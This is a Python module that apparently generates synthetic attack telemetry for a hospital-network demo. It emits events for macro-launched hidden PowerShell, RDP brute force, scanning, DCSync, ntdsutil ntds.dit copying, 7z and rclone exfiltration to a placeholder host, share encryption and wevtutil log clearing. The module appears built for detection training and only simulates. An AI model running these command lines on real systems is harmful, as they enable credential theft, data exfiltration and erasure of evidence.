"""What intruders do once they are in, each deed with what it leaves on the machines concerned."""

from __future__ import annotations

from collections.abc import Iterator

from demo.generate import deploying
from demo.generate import hospital as h
from demo.generate.chance import Chance
from demo.generate.happenings import (
    MINUTE,
    SECOND,
    FileAction,
    FileCreated,
    Flow,
    Happening,
    LogCleared,
    Logon,
    Lookup,
    Process,
    RemoteDesktop,
    Replication,
    Visit,
)

_CMD = r"C:\Windows\System32\cmd.exe"


def open_document(at: int, host: h.Host, user: h.Account) -> Iterator[Happening]:
    """A document from the mail starts a command interpreter, which loads a program."""
    excel = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE"
    shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    outlook = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
    yield Process(at - 20 * SECOND, host, user, excel, r'EXCEL.EXE "C:\Users\Public\planning-astreintes.xlsm"', outlook)
    yield Process(at, host, user, shell, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAGQAZQBtAG8AKQA=", excel)


def guess(at: int, source: h.Host, target: h.Host, user: h.Account, tries: int = 60) -> Iterator[Happening]:
    """Passwords are tried over remote desktop until one fits."""
    chance = Chance(f"replay: guessing {target.name} {at}")
    for _ in range(tries):
        at += chance.whole(3, 8) * SECOND
        yield RemoteDesktop(at, source, target, user, granted=False, seconds=1.2, client_name="WIN-4HT2")
    yield RemoteDesktop(at + 9 * SECOND, source, target, user, seconds=7200, client_name="WIN-4HT2")


def hop(at: int, source: h.Host, targets: tuple[h.Host, ...], user: h.Account) -> Iterator[Happening]:
    """Remote desktop from one place to many machines within the hour."""
    for number, target in enumerate(targets):
        moment = at + number * 7 * MINUTE
        yield RemoteDesktop(moment, source, target, user, seconds=1500 + 300 * number, client_name="WIN-4HT2")


def search(at: int, source: h.Host, networks: tuple[str, ...], each: int = 60) -> Iterator[Happening]:
    """Knock at file sharing and remote desktop on whole networks."""
    chance = Chance(f"replay: search {source.address} {at}")
    present = {host.address: host for host in h.HOSTS}
    for network in networks:
        for number in range(1, each + 1):
            for port in (445, 3389):
                at += chance.whole(150, 450) * 1000
                host = present.get(f"{network}.{number}", h.Host("", f"{network}.{number}"))
                state, size = ("RSTO", 120) if host.logs else ("S0", 0)
                yield Flow(at, source, host, port, seconds=0.01, sent=size, received=size, state=state)


def steal_directory(at: int, source: h.Host, user: h.Account) -> Iterator[Happening]:
    """From a machine the domain controller is asked for its secrets as another domain controller would."""
    yield Logon(at, source, h.DC1, user, package="NTLM", seconds=60)
    for number in range(3):
        yield Replication(at + (2 + number) * SECOND, h.DC1, source, user)
    yield Flow(at, source, h.DC1, 49676, "dce_rpc", seconds=20, sent=61_000, received=2_400_000)


def copy_directory(at: int, user: h.Account) -> Iterator[Happening]:
    """On the domain controller itself its database of passwords is copied."""
    image = r"C:\Windows\System32\ntdsutil.exe"
    command = r'ntdsutil.exe "ac i ntds" "ifm" "create full C:\ProgramData\x\ifm" q q'
    yield Process(at, h.DC1, user, image, command, _CMD)
    yield FileCreated(at + 20 * SECOND, h.DC1, user, image, r"C:\ProgramData\x\ifm\Active Directory\ntds.dit")


def take_away(at: int, host: h.Host, user: h.Account, drop: h.Host) -> Iterator[Happening]:
    """Data are packed with a password and carried to a storage on the Internet."""
    pack = rf"7z.exe a -pDemo -v500m C:\ProgramData\x\c.7z \\{h.FS1.name}\commun\Service"
    carry = r"rclone.exe copy C:\ProgramData\x remote:c --transfers 8"
    yield Process(at, host, user, r"C:\ProgramData\x\7z.exe", pack, _CMD)
    yield Process(at + 5 * MINUTE, host, user, r"C:\ProgramData\x\rclone.exe", carry, _CMD)
    yield Lookup(at + 5 * MINUTE, host, "depot.stockage.example", (drop.address,))
    yield Visit(at + 5 * MINUTE + SECOND, host, drop, "depot.stockage.example", 5_400_000_000, 4_000_000, 2600)


def deploy(at: int, source: h.Host, targets: tuple[h.Host, ...], user: h.Account) -> Iterator[Happening]:
    """See :func:`demo.generate.deploying.deploy`; every deployment has names and sessions of its own."""
    return deploying.deploy(at, source, targets, user, Chance(f"replay: deploy {at}"), f" {at}")


def encrypt(at: int, source: h.Host, server: h.Host, user: h.Account, suffix: str, files: int = 400) -> Iterator[Happening]:
    """Every image of a share gets a new ending."""
    common = (source, server, user, "images$")
    for number in range(files):
        name = f"2026\\03\\{number // 60:05d}\\IM{number % 60:04d}.dcm"
        moment = at + number * 300_000
        session = f"encrypting {server.name} {at}"
        yield FileAction(moment, *common, name, session, "OPEN", size=524_702)
        yield FileAction(moment + 150_000, *common, name + suffix, session, "RENAME", previous=name, size=524_958)


def clear(at: int, hosts: tuple[h.Host, ...], user: h.Account) -> Iterator[Happening]:
    """Logs are emptied (copies had been sent elsewhere)."""
    for number, host in enumerate(hosts):
        moment = at + number * 90 * SECOND
        yield Process(moment, host, user, r"C:\Windows\System32\wevtutil.exe", "wevtutil.exe cl Security", _CMD)
        yield LogCleared(moment + SECOND, host, user, "Security")
